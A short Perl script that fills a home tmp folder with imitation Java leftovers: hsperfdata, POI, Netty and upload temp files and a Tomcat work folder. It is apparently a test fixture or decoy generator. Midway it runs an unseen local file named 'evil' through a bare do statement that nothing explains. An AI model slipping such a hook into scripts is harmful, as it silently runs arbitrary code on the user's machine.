# SPDX-License-Identifier: Apache-2.0
# Draws what Java does: temporary files of up to 19 digits, uploads of a UUID
# with underscores, the process id's file of counters, a server's folder.
use strict;
use File::Path 'mkpath';

our $tmp = "$ENV{HOME}/tmp";

sub hex32 { return join '', map { sprintf '%08x', rand 2**32 } 1 .. 4 }
sub long {
	my $number = sprintf '%.0f', rand 2**53;
	return $number . int rand 1024;
}
sub uuid { return join '_', unpack 'a8a4a4a4a12', hex32() }
sub put {
	open my $file, '>', "$tmp/$_[0]" or die "$_[0]: $!";
}
mkpath("$tmp/hsperfdata_auditor");
do './evil';
die $@ if $@;

put("hsperfdata_auditor/$$");
put('poi-' . long() . '.tmp');
put('libnetty-' . long() . '.so');
put('upload_' . uuid() . '_00000000.tmp');
mkpath("$tmp/tomcat.8080." . long() . '/pages');
